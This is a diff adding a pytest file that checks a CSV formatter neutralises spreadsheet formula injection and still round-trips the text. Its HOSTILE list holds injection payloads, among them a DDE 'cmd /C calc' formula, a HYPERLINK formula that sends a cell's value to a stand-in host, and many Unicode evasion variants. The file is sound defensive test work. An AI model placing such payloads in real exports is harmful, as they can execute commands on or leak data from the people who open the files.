@@ -1,0 +1,144 @@
+"""Cells that no spreadsheet takes for a formula, and that every reader of CSV gets back."""
+
+import csv
+import io
+import json
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from refresh_sessions.events.csv import format_cell, format_rows
+
+HOSTILE = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tplain",
+    "\rplain",
+    "\0plain",
+    " =1+1",
+    "\xa0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\x0b=1+1",
+    '"=1+1',
+    "'=1+1",
+    '""=1+1',
+    "`=1+1",
+    '" =1+1',
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM",
+    "\ufe661+1",
+    "\ufe621",
+    "\ufe631",
+    "\ufe6bSUM",
+    "\u22121+1",
+    "\u202e=1+1",
+    "\u2066=1+1",
+    "\xad=1+1",
+    "\u061c=1+1",
+    "\u180e=1+1",
+    "\u3164=1+1",
+    "\u2800=1+1",
+    "\ufe0f=1+1",
+    "x;\u202d\u2069=1+1",
+    'x","=1+1',
+    "x;=1+1",
+    "x; =1+1",
+    'x";"=1+1',
+    "x\t=1+1",
+    "x\r\n=1+1",
+    "x\n@SUM",
+    "x|=1+1",
+    "Mozilla/5.0 (compatible; bot; +http://bot.example)",
+]
+
+PLAIN = [
+    "Ada's phone",
+    "Kitchen tablet - the old one",
+    "person@example.org",
+    "a=b",
+    "1+1",
+    "192.0.2.7",
+    "::1",
+    "2026-11-23T15:31:07.000000Z",
+    "Tablet, black; 12 inches",
+    "'quoted'",
+    "Grüße 你好 🙂",
+    "",
+]
+
+TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
+INVISIBLE = "\xad\u061c\u180e\u200b\u202d\u202e\u2066\u2069\u2800\u3164\ufe0f\ufeff"
+
+
+def read(text, **options):
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))
+
+
+def is_formula(cell):
+    """What a spreadsheet with a weakness for quotes and spaces would calculate."""
+    bare = re.sub(rf"^[\s\x00-\x1f\"`{INVISIBLE}]+", "", cell)
+    return bare.startswith(tuple(TRIGGERS))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_formula_is_left_of_hostile_text(text):
+    ((cell, _),) = read(format_rows([[text, "next"]]))
+    assert not is_formula(cell)
+    assert not cell.startswith(("\t", "\r", "\n", "\0"))
+    # Nothing is lost: without the apostrophes it is what was written.
+    assert cell.replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_nor_where_a_reader_splits_cells_in_its_own_way(text, separator):
+    cell = format_cell(text)
+    # As though it knew nothing of quotes at all.
+    parts = re.split(rf"{re.escape(separator)}|[\r\n]", cell)
+    assert not any(is_formula(part) for part in parts)
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_other_text_stays_as_it_is(text):
+    assert format_cell(text) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "written"), [(None, ""), (7, "7"), (-7, "-7"), (2.5, "2.5"), (True, "True")]
+)
+def test_numbers_and_nothing_stay_as_they_are(value, written):
+    assert read(format_rows([[value, "next"]])) == [[written, "next"]]
+
+
+@pytest.mark.parametrize("text", HOSTILE + PLAIN)
+def test_json_holds_what_was_written_and_no_formula(text):
+    details = {"user_agent": text, text: 1, "list": [text, -1], "none": None}
+    ((cell,),) = read(format_rows([[details]]))
+    assert json.loads(cell) == details
+    for separator in (";", "\t", "|", "\n"):
+        assert not any(is_formula(part) for part in cell.split(separator))
+
+
+@pytest.mark.parametrize("text", ["=1", "-1", " @x", '"+1', "'=1", "''=1", "\tplain"])
+def test_at_the_start_it_is_one_apostrophe_which_can_be_taken_off_again(text):
+    assert format_cell(text) == f"'{text}"
+
+
+@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=1), min_size=1))
+def test_any_text_comes_back_but_for_apostrophes(rows):
+    written = read(format_rows(rows))
+    stripped = [[cell.replace("'", "") for cell in row] for row in written]
+    assert stripped == [[text.replace("'", "") for text in row] for row in rows]
+    assert not any(is_formula(cell) for row in written for cell in row)
